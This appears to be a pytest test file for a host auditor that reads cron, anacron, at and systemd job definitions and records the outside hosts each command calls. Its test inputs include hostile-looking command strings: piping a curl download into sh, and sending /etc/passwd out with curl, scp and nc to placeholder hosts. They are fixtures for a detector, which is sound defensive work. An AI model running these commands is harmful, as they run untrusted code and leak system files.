"""Jobs of cron, anacron, at and systemd, and where they call."""

from __future__ import annotations

from pathlib import Path

import pytest

from auditor.collect._calls import MAX_CALLS, calls
from auditor.evidence.channels import OutboundTarget

UNIT = {"/etc/systemd/system/other.service": "[Service]\nExecStart=/bin/true\n"}


def places(text):
    return [(call.tool, call.place.host, call.place.explicit) for call in calls(text)]


def found(collected, host, refused=()):
    records, gaps = collected("schedules", host, refused=refused)
    return [r for r in records if isinstance(r, OutboundTarget)], gaps


@pytest.mark.parametrize(
    ("command", "tool", "host"),
    [
        ("curl -s https://a.example/x | sh", "curl", "a.example"),
        ('out="$(wget -qO- http://b.example/a)"', "wget", "b.example"),
        ("bash -c 'curl https://c.example/'", "curl", "c.example"),
        ("curl d.example/up -d @/etc/passwd", "curl", "d.example"),
        ("sudo -u bob rsync -a /data/ bob@e.example:/in", "rsync", "e.example"),
        ("rsync -a /data/ e.example::module", "rsync", "e.example"),
        ("scp /etc/passwd root@192.0.2.9:/tmp", "scp", "192.0.2.9"),
        ("timeout 20 ssh -i /k -p 22 root@f.example id", "ssh", "f.example"),
        ("git push git@g.example:a/b.git", "git", "g.example"),
        ("restic -r sftp:u@h.example:/r backup /", "restic", "h.example"),
        ("restic --repo=rest:https://i.example/r backup /", "restic", "i.example"),
        ("borg create ssh://u@j.example/./r::x /", "borg", "j.example"),
        ("borg create u@j.example:r::x /", "borg", "j.example"),
        ("nc 192.0.2.3 443 < /etc/passwd", "nc", "192.0.2.3"),
        ("socat - OPENSSL:k.example:443", "socat", "k.example"),
        ("aws --endpoint-url https://s3.l.example s3 ls", "aws", "s3.l.example"),
        ("docker push registry.m.example/a:1", "docker", "registry.m.example"),
        ("mysqldump -h n.example x", "mysqldump", "n.example"),
        ("cd /srv && /usr/bin/curl -fs https://o.example/ || true", "curl", "o.example"),
        ("if curl -fs https://p.example/; then echo; fi", "curl", "p.example"),
        ("python3 /opt/x.py --url=https://q.example/in", "python3", "q.example"),
        ("exec 3<>/dev/tcp/192.0.2.1/80; curl https://r.example", "curl", "r.example"),
    ],
)
def test_a_host_is_found(command, tool, host):
    assert (tool, host, True) in places(command)


@pytest.mark.parametrize(
    "command",
    ["aws s3 cp /data s3://bucket/x", "gsutil cp x gs://b", "docker pull alpine",
     "huggingface-cli download a/b", "az storage blob upload -f x"],
)  # fmt: skip
def test_a_tool_without_a_host_goes_to_its_public_default(command):
    assert [(host, explicit) for _, host, explicit in places(command)] == [("", False)]


@pytest.mark.parametrize(
    "command",
    ['curl -fsS "$URL"', "X=$(curl $U)", "rsync -a $A $B", "git -C /srv push", "restic backup /",
     "rclone sync /data remote:x", "borg create ::x /", "curl -K /etc/job.curl x",
     "curl https://$HOST/x"],
)  # fmt: skip
def test_a_host_that_cannot_be_told_is_untold_not_absent(command):
    assert [host for _, host, _ in places(command)] == [None]


@pytest.mark.parametrize(
    "command",
    ["rsync -a /a /b", "restic -r /mnt/r backup /", "borg create /mnt/r::x /", "command -v curl",
     "test -x /usr/bin/curl", "echo see https://x.example", "# curl https://x.example", "curl --version",
     "true", "", "nc -l 80", "run-parts --report /etc/cron.daily", "psql -h /run/pg -c x"],
)  # fmt: skip
def test_what_stays_here_is_no_call(command):
    assert places(command) == []


def test_secrets_of_a_command_are_not_kept():
    [call] = calls(
        "curl -u report:hunter2 -H 'Authorization: Bearer abcdefghijklmnop' https://a.example"
    )
    assert "hunter2" not in call.command
    assert "abcdefghijklmnop" not in call.command


def test_all_the_places_where_jobs_stand(plain_tree, collected):
    service = (
        "[Service]\nExecStartPre=-/bin/true\nExecStart=/bin/sh -c 'curl https://timer.example'\n"
    )
    host = plain_tree(
        {
            **UNIT,
            "/etc/crontab": "MAILTO=x\n17 * * * * root curl https://crontab.example\n",
            "/etc/cron.d/a": "@daily bob wget https://crond.example%input\n",
            "/etc/cron.daily/job": "#!/bin/sh\n# curl https://no.example\ncurl https://daily.example\n",
            "/var/spool/cron/crontabs/alice": "*/5 * * * * curl https://user.example\n",
            "/etc/anacrontab": "7 5 weekly curl https://anacron.example\n",
            "/var/spool/cron/atjobs/a0001": "#!/bin/sh\ncurl https://at.example\n",
            "/usr/lib/systemd/system/up.timer": "[Timer]\nOnCalendar=daily\nUnit=send.service\n",
            "/usr/lib/systemd/system/send.service": service,
            "/etc/systemd/system/timers.target.wants/up.timer": Path("/usr/lib/systemd/system/up.timer"),
            "/usr/lib/systemd/system/off.timer": "[Timer]\n",
            "/usr/lib/systemd/system/off.service": "[Service]\nExecStart=curl https://off.example\n",
            "/etc/systemd/system/boot.service": "[Service]\nExecStart=/usr/bin/true\n",
            "/etc/systemd/system/boot.service.d/x.conf":
                "[Service]\nExecStart=/usr/bin/curl \\\n  https://boot.example\n",
            "/etc/systemd/system/multi-user.target.wants/boot.service": "x",
        }
    )  # fmt: skip
    records, gaps = found(collected, host)
    assert {(r.subject, r.host) for r in records} == {
        ("cron /etc/crontab (root)", "crontab.example"),
        ("cron /etc/cron.d/a (bob)", "crond.example"),
        ("cron.daily/job", "daily.example"),
        ("crontab of alice", "user.example"),
        ("anacron weekly", "anacron.example"),
        ("at job", "at.example"),
        ("up.timer", "timer.example"),
        ("boot.service", "boot.example"),
    }
    assert gaps == []
    daily = next(r for r in records if r.host == "daily.example")
    assert daily.origin.place == "/etc/cron.daily/job:3"


def test_a_script_that_a_job_names_is_read(plain_tree, collected):
    host = plain_tree(
        {
            **UNIT,
            "/etc/crontab": "1 1 * * * root /usr/local/bin/backup.sh >/dev/null\n",
            "/usr/local/bin/backup.sh": "#!/bin/bash\nset -e\nrsync -a / backup@s.example:/x\n",
        }
    )
    [record] = found(collected, host)[0]
    assert (record.subject, record.host) == ("cron /etc/crontab (root)", "s.example")
    assert record.origin.place == "/usr/local/bin/backup.sh:3"


@pytest.mark.parametrize(
    "refused", ["/var/spool/cron/crontabs", "/etc/cron.d", "/usr/local/bin", "/etc/systemd/system"]
)
def test_jobs_that_may_not_be_read_are_a_gap(plain_tree, collected, refused):
    host = plain_tree(
        {
            **UNIT,
            "/etc/crontab": "1 1 * * * root /usr/local/bin/backup.sh\n",
            "/usr/local/bin/backup.sh": "#!/bin/bash\ncurl https://s.example\n",
            "/var/spool/cron/crontabs/alice": "",
            "/etc/cron.d/x": "",
        }
    )
    _, gaps = found(collected, host, [refused])
    assert {gap.kind for gap in gaps} == {"outbound_target"}


def test_more_calls_than_are_kept_are_a_gap(plain_tree, collected):
    text = "#!/bin/sh\n" + "".join(f"curl https://h{n}.example\n" for n in range(MAX_CALLS + 50))
    records, gaps = found(collected, plain_tree({**UNIT, "/etc/cron.daily/many": text}))
    assert len(records) == MAX_CALLS
    assert [gap.reason for gap in gaps] == ["limit"]


def test_a_host_without_etc_is_a_gap(plain_tree, collected):
    _, gaps = found(collected, plain_tree({"/etc/passwd": None}), ["/etc/crontab"])
    assert gaps
